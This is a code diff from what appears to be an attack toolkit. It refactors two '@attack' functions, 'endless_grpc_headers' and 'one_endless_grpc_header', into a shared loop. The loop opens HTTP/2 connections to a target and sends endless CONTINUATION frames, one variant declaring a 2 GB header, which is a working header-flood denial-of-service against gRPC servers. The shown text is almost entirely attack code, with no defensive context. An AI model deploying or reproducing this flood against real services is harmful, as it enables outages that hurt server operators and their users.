@@ -252,31 +252,28 @@ def health_watches(target, goes_on):
     keep(goes_on, 200, make, lambda one: not closed(one.socket))
 
 
+def continued(target, goes_on, begin, more):
+    while goes_on():
+        try:
+            one = Http2(target)
+            one.frame(Http2.HEADERS, 0, 1, begin)
+            while goes_on():
+                one.frame(Http2.CONTINUATION, 0, 1, more)
+        except OSError:
+            continue
+
+
 @attack
 def endless_grpc_headers(target, goes_on):
     """One call after the other without certificate whose headers never end, as fast as they go."""
     filler = Http2.header("x-filler", "y" * 100) * 140
-    while goes_on():
-        try:
-            one = Http2(target)
-            one.frame(Http2.HEADERS, 0, 1, filler)
-            while goes_on():
-                one.frame(Http2.CONTINUATION, 0, 1, filler)
-        except OSError:
-            continue
+    continued(target, goes_on, filler, filler)
 
 
 @attack
 def one_endless_grpc_header(target, goes_on):
     """The same with a single header of 2 GB."""
-    while goes_on():
-        try:
-            one = Http2(target)
-            one.frame(Http2.HEADERS, 0, 1, b"\0\1x" + b"\x7f" + varint((1 << 31) - 127))
-            while goes_on():
-                one.frame(Http2.CONTINUATION, 0, 1, b"z" * 16000)
-        except OSError:
-            continue
+    continued(target, goes_on, b"\0\1x" + b"\x7f" + varint((1 << 31) - 127), b"z" * 16000)
 
 
 @attack
